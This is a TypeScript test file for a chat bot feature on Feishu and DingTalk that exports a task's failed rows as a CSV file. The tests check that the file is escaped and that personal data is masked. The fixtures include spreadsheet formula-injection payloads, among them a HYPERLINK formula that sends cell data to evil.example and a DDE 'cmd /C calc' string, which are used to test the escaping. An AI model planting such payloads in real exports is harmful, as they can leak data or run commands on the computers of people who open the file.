import { TOPIC_CARD, TOPIC_ROBOT } from 'dingtalk-stream';
import { describe, expect, it } from 'vitest';
import { FakeFeishu } from '../../src/sandbox/fake-feishu.js';
import type { FakeMessage } from '../../src/sandbox/fake-feishu-im.js';
import { platformsEach, until, withDingtalk, withFeishu } from '../helpers/bot.js';
import { FEISHU_FILE_MAX_BYTES, FeishuApi } from '../../src/platforms/feishu/api-client.js';
import { readCsv } from '../helpers/rfc4180.js';

const toast = (ack: { data?: unknown }) => (ack.data as { toast: { content: string } }).toast.content;
const STARTED = 'Preparing a file of the failed items; it will be posted as a reply to this card';
const BUSY = 'The file of the failed items is already being prepared';
const RECENT = 'The file of the failed items was just posted under this card; you can export again in a minute';
const hex = (n: number) => n.toString(16).padStart(32, '0');
/** Upstream text that a spreadsheet would run, and text that breaks naive CSV. */
const HOSTILE = [
  { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', msg: "+cmd|' /C calc'!A0" },
  { name: '@SUM(1+1)*cmd', msg: '-2+3' },
  { name: '\t=1+1\nline two\rthree', msg: 'line one\r\nline "two", with a comma' },
  { name: '张三，李四', msg: '＝1+1', email: 'zhang.san@example.com', mobile: '13912345678' },
];

describe('Export failed items, end to end (Feishu: upload and file message; DingTalk: said it cannot)', () => {
  const t = platformsEach({ neighbours: true });

  const feishuBot = () => withFeishu(t);

  async function cardOf(f: FakeFeishu, chat: string, id: string, done: (m: FakeMessage) => boolean): Promise<FakeMessage> {
    const { messageId, event } = f.say(chat, `status ${id}`);
    await f.gateway.push(event);
    return until('the card', () => [...f.im.messages.values()].find((m) => m.reply_to === messageId && done(m)), 15_000);
  }

  it('a task with 10,000 failed rows: the card folds ten of them and offers the file; the file holds every row, safe to open', async () => {
    const f = await feishuBot();
    // 50,000 rows, a fifth of them failing: 10,000.
    f.addTask({ id: hex(1), kind: 'contact', total: 50_000, outcome: 'partial', queuedSteps: 0, runningSteps: 1, advance: 'poll', failedRows: HOSTILE });
    const card = await cardOf(f, 'oc_x', hex(1), (m) => JSON.stringify(m.card).includes('Partly failed'));
    const json = JSON.stringify(card.card);
    expect(json).toContain('"tag":"collapsible_panel"');
    expect(json).toContain('Failed items (10000)');
    expect(json).toContain('"action":"export"');

    // Pressed twice at once: one file is made, the other press is told it is on its way.
    const presses = await Promise.all([0, 1].map(() => f.gateway.push(f.click(card.message_id, 'export'))));
    expect(presses.map(toast).sort()).toEqual([STARTED, BUSY].sort());
    const file = await until('the file', () => f.im.inChat('oc_x').find((m) => m.file), 15_000);
    expect(file.reply_to).toBe(card.message_id);
    expect(file.file!.name).toBe(`failed-contact-${hex(1)}.csv`);
    expect(file.file!.type).toBe('stream');
    expect(f.calls('/open-apis/im/v1/files')).toHaveLength(1);
    // A crowd pressing Export once the file is out is pointed at it: no second file, no second read of the rows.
    await until('the file is marked posted', async () => toast(await f.gateway.push(f.click(card.message_id, 'export'))) === RECENT);
    const reads = f.calls(/contact\/v2\/task\/get/).length;
    const crowd = await Promise.all(['ou_a', 'ou_b', 'ou_c', 'ou_d', 'ou_e'].map((user) => f.gateway.push(f.click(card.message_id, 'export', { user }))));
    expect(crowd.map(toast)).toEqual(Array(5).fill(RECENT));
    expect(f.calls('/open-apis/im/v1/files')).toHaveLength(1);
    expect(f.calls(/contact\/v2\/task\/get/)).toHaveLength(reads);

    const bytes = file.file!.bytes;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.byteLength).toBeLessThan(30 * 1024 * 1024);
    // Read as a spreadsheet reads it: any unquoted line break would end the row.
    const table = readCsv(bytes);
    expect(table[0]).toEqual(['Name', 'ID', 'Code', 'Reason', 'Email', 'Mobile']);
    expect(table).toHaveLength(10_001);
    // Every would-be formula is text; quotes, commas and line breaks come back as they were.
    expect(table[1]!.slice(0, 4)).toEqual([`'${HOSTILE[0]!.name}`, '_user_1', '10013', `'${HOSTILE[0]!.msg}`]);
    expect(table[2]![0]).toBe(`'${HOSTILE[1]!.name}`);
    expect(table[2]![3]).toBe(`'-2+3`);
    expect(table[3]!.slice(0, 4)).toEqual([`'${HOSTILE[2]!.name}`, '_user_3', '10013', HOSTILE[2]!.msg]);
    // Masked as the card masks them.
    expect(table[4]).toEqual(['张三，李四', '_user_4', '10013', `'＝1+1`, 'z***@example.com', '139****5678']);
    expect(table[10_000]![0]).toBe(`'${HOSTILE[3]!.name}`.slice(1));
    expect(bytes.toString('utf8')).not.toContain('zhang.san@');
  });

  it('while the task runs the rows are not listed yet, and when the upload is refused: a notice under the card says so', async () => {
    const f = await feishuBot();
    f.addTask({ id: hex(2), kind: 'contact', total: 10_000, outcome: 'partial', queuedSteps: 0, runningSteps: 400, advance: 1000 });
    const live = await cardOf(f, 'oc_y', hex(2), (m) => JSON.stringify(m.card).includes('"action":"export"'));
    await f.gateway.push(f.click(live.message_id, 'export'));
    const notice = await until('the notice', () =>
      f.im.inChat('oc_y').find((m) => m.reply_to === live.message_id && JSON.stringify(m.card).includes('lists no failed rows yet')),
    );
    expect(JSON.stringify(notice.card)).toContain(`Task ${hex(2)} lists no failed rows yet`);

    f.addTask({ id: hex(3), kind: 'contact', total: 10, outcome: 'partial', queuedSteps: 0, runningSteps: 1, advance: 'poll' });
    const done = await cardOf(f, 'oc_z', hex(3), (m) => JSON.stringify(m.card).includes('Partly failed'));
    f.denyScope('/open-apis/im/v1/files');
    await f.gateway.push(f.click(done.message_id, 'export'));
    const refused = await until('the refusal', () =>
      f.im.inChat('oc_z').find((m) => m.reply_to === done.message_id && JSON.stringify(m.card).includes('Could not export')),
    );
    expect(JSON.stringify(refused.card)).toContain('PERMISSION_DENIED');
    expect(f.im.inChat('oc_z').some((m) => m.file)).toBe(false);
    // The failed export let go of the card at once (well before its hold would lapse): a new press makes the file.
    f.restoreScope('/open-apis/im/v1/files');
    await until('a new press starts a new file', async () => toast(await f.gateway.push(f.click(done.message_id, 'export'))) === STARTED, 5000);
    await until('the file', () => f.im.inChat('oc_z').find((m) => m.file && m.reply_to === done.message_id), 10_000);
  });

  it("a file over Feishu's 30 MB limit is refused before any upload (the fake refuses one too, as Feishu documents)", async () => {
    const f = (t.feishu = new FakeFeishu());
    await f.listen();
    const api = new FeishuApi({ appId: f.appId, appSecret: f.appSecret, domain: f.baseUrl, timeoutMs: 10_000 });
    const big = new Uint8Array(FEISHU_FILE_MAX_BYTES + 1);
    await expect(api.uploadFile('big.csv', big)).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
    await expect(api.uploadFile('empty.csv', new Uint8Array(0))).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
    expect(f.calls('/open-apis/im/v1/files')).toHaveLength(0);
    const token = (await (
      await fetch(`${f.baseUrl}/open-apis/auth/v3/tenant_access_token/internal`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ app_id: f.appId, app_secret: f.appSecret }),
      })
    ).json()) as { tenant_access_token: string };
    const form = new FormData();
    form.append('file_type', 'stream');
    form.append('file_name', 'big.csv');
    form.append('file', new Blob([big]), 'big.csv');
    const r = await fetch(`${f.baseUrl}/open-apis/im/v1/files`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token.tenant_access_token}` },
      body: form,
    });
    expect(((await r.json()) as { code: number }).code).toBe(234006);
  });

  it('a drive task (its upstream lists no rows) has no Export button; a forged press is told', async () => {
    const f = await feishuBot();
    f.addTask({ id: '7001', kind: 'drive', total: 10, outcome: 'succeeded', queuedSteps: 0, runningSteps: 1, advance: 'poll' });
    const card = await cardOf(f, 'oc_d', '7001', (m) => JSON.stringify(m.card).includes('Succeeded'));
    expect(JSON.stringify(card.card)).not.toContain('"action":"export"');
    expect(toast(await f.gateway.push(f.click(card.message_id, 'export')))).toContain('nothing to export');
  });

  it('DingTalk: no task kind lists rows and the robot posts no files here: a press is told, nothing is sent', async () => {
    const d = await withDingtalk(t);
    d.addTask({ id: 'copy-3', kind: 'doc', total: 10, outcome: 'partial', queuedSteps: 0, runningSteps: 500, advance: 1000 });
    await d.stream.push(TOPIC_ROBOT, d.robotMessage('cidE==', 'status copy-3').data);
    const card = await until('the card', () => [...d.im.cards.values()][0]);
    const ack = await d.stream.push(TOPIC_CARD, d.cardClick(card.outTrackId, 'export'));
    expect(JSON.stringify(ack.data)).toContain('nothing to export');
  });
});
